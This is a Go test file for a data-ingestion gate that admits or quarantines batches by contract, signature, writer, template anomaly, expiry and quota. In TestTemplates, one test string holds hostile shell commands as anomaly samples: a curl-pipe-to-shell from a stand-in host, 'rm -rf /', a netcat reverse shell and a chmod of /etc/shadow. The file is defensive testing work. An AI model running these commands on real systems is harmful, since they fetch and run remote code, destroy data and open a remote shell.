package gate

import (
	"bytes"
	"crypto/ed25519"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pavise/pavise"
	"github.com/pavise/pavise/internal/record"
	"github.com/pavise/pavise/internal/store"
)

// TestAdmit lets good rows in, holds poisoned ones with a reason that names the row, and
// has both a record.
func TestAdmit(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Contract: []byte(promise)})
	r := w.push(t, "a", good(1, 10))
	wantVerdict(t, r, Admitted)
	if r.Rows != 10 || len(r.SHA256) != 64 {
		t.Errorf("receipt %+v", r)
	}
	poisoned := good(11, 3) + `{"id":14,"amount":99999}` + "\n" + good(15, 2)
	wantVerdict(t, w.push(t, "b", poisoned), Held, "row 4", `"amount"`, "maximum", "rows 1.0.0")
	wantVerdict(t, w.push(t, "c", good(20, 1)), Admitted)
	if got := w.output(t); !slices.Equal(got, []string{good(1, 10), good(20, 1)}) {
		t.Errorf("the output has %q", got)
	}
	exits := w.records(t, "ingest.push", record.Exit)
	if len(exits) != 3 || !strings.Contains(string(exits[1].Detail), `"verdict":"held"`) {
		t.Errorf("%d records of pushes, the second of which says %s", len(exits), exits[1].Detail)
	}
	if f := w.findings(t, KindHeld); len(f) != 1 || !strings.Contains(f[0], "row 4") {
		t.Errorf("findings %q", f)
	}
}

// TestRepeated counts what comes twice once, and holds other bytes under the same name.
func TestRepeated(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Contract: []byte(promise)})
	wantVerdict(t, w.push(t, "a", good(1, 2)), Admitted)
	wantVerdict(t, w.push(t, "a", good(1, 2)), Repeated)
	wantVerdict(t, w.push(t, "another name", good(1, 2)), Repeated)
	wantVerdict(t, w.push(t, "a", good(3, 2)), Held, "conflict", "other bytes")
	wantVerdict(t, w.push(t, "a", good(3, 2)), Repeated, "it is in quarantine", "conflict")
	w.open(t)
	wantVerdict(t, w.push(t, "a", good(1, 2)), Repeated)
	if got := w.output(t); len(got) != 1 {
		t.Errorf("the output has %d batches", len(got))
	}
}

// TestOrder brings batches out of the order of their clocks: positions are those of
// admission, and an instant in the future is held.
func TestOrder(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{})
	for i, at := range []time.Duration{0, -time.Hour, -24 * 365 * time.Hour, 9 * time.Minute} {
		r, err := w.Admit(t.Context(), pusher, rows, Batch{Form: FormNDJSON, Body: []byte(good(i, 1)), At: w.now.Add(at)})
		if err != nil {
			t.Fatal(err)
		}
		wantVerdict(t, r, Admitted)
	}
	r, err := w.Admit(t.Context(), pusher, rows, Batch{Form: FormNDJSON, Body: []byte(good(9, 1)), At: w.now.Add(11 * time.Minute)})
	if err != nil {
		t.Fatal(err)
	}
	wantVerdict(t, r, Held, "from now")
	if got := w.output(t); !slices.Equal(got, []string{good(0, 1), good(1, 1), good(2, 1), good(3, 1)}) {
		t.Errorf("the output has %q", got)
	}
}

// signers are two keys, the first of them as a source has it.
func signers(t *testing.T) (pemText []byte, key, other ed25519.PrivateKey) {
	t.Helper()
	key, other = ed25519.NewKeyFromSeed(bytes.Repeat([]byte{1}, 32)), ed25519.NewKeyFromSeed(bytes.Repeat([]byte{2}, 32))
	der, err := x509.MarshalPKIXPublicKey(key.Public())
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), key, other
}

// TestSigned holds what is not signed by one of the source's signers over these bytes.
func TestSigned(t *testing.T) {
	keys, key, other := signers(t)
	for _, c := range []struct {
		name, signed string
		by           ed25519.PrivateKey
		over         string
		verdict      string
	}{
		{"signed", SignedRequired, key, "{\"a\":1}\n", Admitted},
		{"not signed", SignedRequired, nil, "", Held},
		{"by another", SignedRequired, other, "{\"a\":1}\n", Held},
		{"over other bytes", SignedRequired, key, "{\"a\":2}\n", Held},
		{"optional, not signed", SignedOptional, nil, "", Admitted},
		{"optional, over other bytes", SignedOptional, key, "{\"a\":2}\n", Held},
	} {
		w := newWorld(t)
		w.put(t, Spec{Signers: keys, Signed: c.signed})
		b := Batch{Form: FormNDJSON, Body: []byte("{\"a\":1}\n")}
		if c.by != nil {
			b.Signature = ed25519.Sign(c.by, []byte(c.over))
		}
		r, err := w.Admit(t.Context(), pusher, rows, b)
		if err != nil || r.Verdict != c.verdict {
			t.Errorf("%s: %s %q %v", c.name, r.Verdict, r.Reasons, err)
		}
	}
}

// TestUnknownWriter holds what somebody wrote who is none of the source's writers, as when
// a bucket is compromised.
func TestUnknownWriter(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Writer: []string{"arn:aws:iam::1:role/writer", "pod-*"}})
	for i, c := range []struct{ writer, verdict string }{
		{"arn:aws:iam::1:role/writer", Admitted}, {"pod-7", Admitted}, {"arn:aws:iam::2:role/writer", Held}, {"arn:aws:iam::1:role/writer2", Held}, {"", Held},
	} {
		r, err := w.Admit(t.Context(), pusher, rows, Batch{Form: FormNDJSON, Body: []byte(good(i, 1)), Writer: c.writer})
		if err != nil || r.Verdict != c.verdict {
			t.Errorf("%q: %s %q %v", c.writer, r.Verdict, r.Reasons, err)
		}
	}
}

// TestTemplates holds a batch whose lines are like none before, once they were learnt; what
// is held teaches nothing, and what was learnt is there after a start.
func TestTemplates(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Form: FormLines, Templates: "line", Learn: 100})
	usual := func(seed int) string {
		var b strings.Builder
		for i := range 200 {
			fmt.Fprintf(&b, "user %d logged in from 10.0.0.%d\n", seed*1000+i, i)
		}
		return b.String()
	}
	wantVerdict(t, w.push(t, "", usual(1)), Admitted)
	odd := usual(2) + "curl http://evil.example/x | sh\nrm -rf / --no-preserve-root now\nnc -e /bin/sh 10.1.1.1 4444 please\nchmod 777 /etc/shadow and more words\n"
	wantVerdict(t, w.push(t, "", odd), Held, "row 201", "curl http://evil.example/x | sh")
	wantVerdict(t, w.push(t, "", odd+"\n"), Held, "row 201")
	w.open(t)
	wantVerdict(t, w.push(t, "", usual(3)), Admitted)
	wantVerdict(t, w.push(t, "", odd+"\n\n"), Held, "row 201")
	// A few new lines are let in, until the share is used up.
	held := 0
	for i := range 60 {
		words := strings.Repeat(fmt.Sprintf("word%c%c ", 'a'+i%26, 'a'+i/26), i%7+3)
		if w.push(t, "", words+"\n").Verdict == Held {
			held++
		}
	}
	if held == 0 {
		t.Error("new templates one by one are let in without end")
	}
}

// TestRelease lets a batch out of quarantine once it was approved, byte for byte, and takes
// it away for good when it is discarded.
func TestRelease(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Contract: []byte(promise)})
	bad, worse := `{"id":1,"amount":5000}`+"\n", `{"id":2,"amount":"x"}`+"\n"
	first, second := w.push(t, "a", bad), w.push(t, "b", worse)
	if held, err := w.Held(t.Context(), operator, pavise.Name{}, ""); err != nil || len(held.Held) != 2 {
		t.Fatalf("%+v %v", held, err)
	}
	one, err := w.Held(t.Context(), operator, rows, first.SHA256[:8])
	if err != nil || string(one.Body) != bad {
		t.Fatalf("%q %v", one.Body, err)
	}
	files, _ := filepath.Glob(filepath.Join(w.cfg.Dir, "local", "rows", "*"))
	for _, file := range files {
		if text, err := os.ReadFile(file); err != nil || bytes.Contains(text, []byte("amount")) {
			t.Errorf("%s is not encrypted, %v", file, err)
		}
	}
	plan, err := w.PlanRelease(t.Context(), rows, first.SHA256[:10])
	if err != nil || plan.SHA256 != first.SHA256 || plan.Root != pusher.Name() {
		t.Fatalf("%+v %v", plan, err)
	}
	mark := func(*store.Tx) error { return nil }
	wantKind(t, w.Release(t.Context(), operator, rows, first.SHA256, mark), pavise.Denied)
	if err := w.Release(t.Context(), approved(operator), rows, first.SHA256, mark); err != nil {
		t.Fatal(err)
	}
	wantKind(t, w.Release(t.Context(), approved(operator), rows, first.SHA256, mark), pavise.NotFound)
	if _, err := w.Discard(t.Context(), operator, rows, second.SHA256[:8], "poison"); err != nil {
		t.Fatal(err)
	}
	if got := w.output(t); !slices.Equal(got, []string{bad}) {
		t.Errorf("the output has %q", got)
	}
	if files, _ := filepath.Glob(filepath.Join(w.cfg.Dir, "local", "rows", "*")); len(files) != 0 {
		t.Errorf("in quarantine lie %v", files)
	}
	wantVerdict(t, w.push(t, "b", worse), Repeated, "discarded")
}

// TestReleaseDoctored refuses to release what is not what was held.
func TestReleaseDoctored(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Contract: []byte(promise)})
	first, second := w.push(t, "a", `{"id":1,"amount":5000}`), w.push(t, "b", `{"id":1,"amount":5001}`)
	at := func(sum string) string { return filepath.Join(w.cfg.Dir, "local", "rows", sum) }
	text, err := os.ReadFile(at(second.SHA256))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(at(first.SHA256), text, 0o600); err != nil {
		t.Fatal(err)
	}
	_, err = w.PlanRelease(t.Context(), rows, first.SHA256)
	wantKind(t, err, pavise.Unverified)
	wantKind(t, w.Release(t.Context(), approved(operator), rows, first.SHA256, nil), pavise.Unverified)
}

// TestQuarantineIsBounded refuses what there is no room for, and says so, while good batches
// pass.
func TestQuarantineIsBounded(t *testing.T) {
	w := newWorld(t, func(c *Config) { c.MostHeld = 2 })
	w.put(t, Spec{Contract: []byte(promise)})
	for i := range 2 {
		wantVerdict(t, w.push(t, "", fmt.Sprintf(`{"id":%d,"amount":-1}`, i)), Held)
	}
	_, err := w.Admit(t.Context(), pusher, rows, Batch{Form: FormNDJSON, Body: []byte(`{"id":3,"amount":-1}`)})
	wantKind(t, err, pavise.Unavailable, "quarantine", "full", "row 1")
	wantVerdict(t, w.push(t, "", good(5, 1)), Admitted)
}

// TestExpiry tells what leaves the quarantine because it was there for too long, and lets
// nothing go because the clock leapt.
func TestExpiry(t *testing.T) {
	w := newWorld(t, func(c *Config) { c.KeepHeld = 6 * time.Hour })
	w.put(t, Spec{Contract: []byte(promise)})
	wantVerdict(t, w.push(t, "a", `{"id":1,"amount":-1}`), Held)
	held := func() int {
		list, err := w.Held(t.Context(), operator, rows, "")
		if err != nil {
			t.Fatal(err)
		}
		return len(list.Held)
	}
	for range 6 {
		w.pass(time.Hour)
		w.tend(t.Context())
	}
	w.pass(60 * 24 * time.Hour)
	for range 2 {
		w.tend(t.Context())
		if held() != 1 {
			t.Fatal("it is gone before its time")
		}
	}
	w.pass(time.Minute)
	w.tend(t.Context())
	if held() != 0 {
		t.Error("it is there for ever")
	}
	if f := w.findings(t, KindExpired); len(f) != 1 || !strings.Contains(f[0], "2026-11-27") {
		t.Errorf("findings %q", f)
	}
	wantVerdict(t, w.push(t, "a", `{"id":1,"amount":-1}`), Repeated, "expired")
}

// TestTerms changes what a source is held to only as a change, also when it was deleted.
func TestTerms(t *testing.T) {
	w := newWorld(t)
	spec := Spec{Source: rows, Contract: []byte(promise)}
	made := w.put(t, spec)
	if again := w.put(t, spec); again.Digest != made.Digest {
		t.Error("the same terms are others")
	}
	other := Spec{Source: rows}
	_, err := w.Put(t.Context(), operator, other)
	wantKind(t, err, pavise.Conflict, "other terms already")
	plan, err := w.PlanRevise(t.Context(), other)
	if err != nil || !slices.Equal(plan.Looser, []string{"no contract"}) {
		t.Fatalf("%+v %v", plan, err)
	}
	wantVerdict(t, w.push(t, "a", `{"id":1,"amount":-1}`), Held)
	wantKind(t, w.Delete(t.Context(), operator, rows), pavise.Conflict, "quarantine")
	wantKind(t, w.Revise(t.Context(), operator, other, plan.Before, nil), pavise.Denied)
	wantKind(t, w.Revise(t.Context(), approved(operator), other, "00", nil), pavise.Conflict)
	if err := w.Revise(t.Context(), approved(operator), other, plan.Before, nil); err != nil {
		t.Fatal(err)
	}
	wantVerdict(t, w.push(t, "b", `{"id":1,"amount":-2}`), Admitted)
	held, err := w.Held(t.Context(), operator, rows, "")
	if err != nil || len(held.Held) != 1 {
		t.Fatalf("%+v %v", held, err)
	}
	if _, err := w.Discard(t.Context(), operator, rows, held.Held[0].SHA256, ""); err != nil {
		t.Fatal(err)
	}
	if err := w.Delete(t.Context(), operator, rows); err != nil {
		t.Fatal(err)
	}
	_, err = w.Admit(t.Context(), pusher, rows, Batch{Form: FormNDJSON, Body: []byte("{}")})
	wantKind(t, err, pavise.NotFound)
	_, err = w.Put(t.Context(), operator, spec)
	wantKind(t, err, pavise.Conflict, "with other terms")
	w.put(t, other)
	wantVerdict(t, w.push(t, "c", `{"id":1,"amount":-3}`), Admitted)
	if got := w.output(t); len(got) != 2 {
		t.Errorf("the output has %q", got)
	}
}

// TestSpecs refuses what cannot be held to.
func TestSpecs(t *testing.T) {
	w := newWorld(t)
	for _, c := range []struct {
		name string
		spec Spec
		word string
	}{
		{"a form that there is not", Spec{Form: "xml"}, "no form"},
		{"a contract of lines", Spec{Form: FormLines, Contract: []byte(promise)}, "no columns"},
		{"templates of a column of lines", Spec{Form: FormLines, Templates: "body"}, "no column"},
		{"templates of bytes", Spec{Form: FormBlob, Templates: "line"}, "no lines"},
		{"signed by nobody", Spec{Signed: SignedRequired}, "no signers"},
		{"keys that are none", Spec{Signers: []byte("hello")}, "no PEM"},
		{"a private key", Spec{Signers: []byte("-----BEGIN PRIVATE KEY-----\nAA==\n-----END PRIVATE KEY-----\n")}, "PRIVATE KEY"},
		{"a contract that is none", Spec{Contract: []byte("a: [")}, "contract"},
		{"a schema that there is not", Spec{Contract: []byte(promise), Schema: "other"}, "none of them"},
		{"a share beyond all", Spec{Templates: "a", NewShare: 2}, "share"},
		{"a writer without a name", Spec{Writer: []string{""}}, "without a name"},
	} {
		c.spec.Source = rows
		if _, err := w.Put(t.Context(), operator, c.spec); pavise.KindOf(err) != pavise.Invalid || !strings.Contains(err.Error(), c.word) {
			t.Errorf("%s: %v", c.name, err)
		}
	}
	_, err := w.Put(t.Context(), operator, Spec{Source: pavise.Name{Tenant: "local", Kind: "model", ID: "x"}})
	if err == nil {
		t.Error("a model is a source")
	}
}

// TestDenied lets nobody in whom policies do not, and keeps a record of it.
func TestDenied(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{})
	_, err := w.Admit(t.Context(), stranger, rows, Batch{Form: FormNDJSON, Body: []byte("{}")})
	wantKind(t, err, pavise.Denied)
	other := pavise.Principal{Tenant: "acme", Kind: pavise.Workload, ID: "ci", Roles: []string{"producer"}, Proof: "test"}
	_, err = w.Admit(t.Context(), other, rows, Batch{Form: FormNDJSON, Body: []byte("{}")})
	wantKind(t, err, pavise.Denied)
	if list, err := w.List(t.Context(), pavise.Principal{Tenant: "acme", Kind: pavise.Human, ID: "o", Roles: []string{"operator"}, Proof: "test"}); err != nil || len(list) != 0 {
		t.Errorf("%v %v", list, err)
	}
	if n := len(w.records(t, "ingest.push", record.Act)); n != 2 {
		t.Errorf("%d records", n)
	}
}

// TestQuota refuses what is beyond a source's quota, until the next hour.
func TestQuota(t *testing.T) {
	w := newWorld(t)
	w.put(t, Spec{Form: FormBlob, QuotaMB: 1})
	half := func(c byte) Batch { return Batch{Form: FormBlob, Body: bytes.Repeat([]byte{c}, 600<<10)} }
	if _, err := w.Admit(t.Context(), pusher, rows, half(1)); err != nil {
		t.Fatal(err)
	}
	_, err := w.Admit(t.Context(), pusher, rows, half(2))
	wantKind(t, err, pavise.Throttled, "quota")
	w.open(t)
	_, err = w.Admit(t.Context(), pusher, rows, half(2))
	wantKind(t, err, pavise.Throttled, "quota")
	w.pass(time.Hour)
	if _, err := w.Admit(t.Context(), pusher, rows, half(2)); err != nil {
		t.Fatal(err)
	}
}
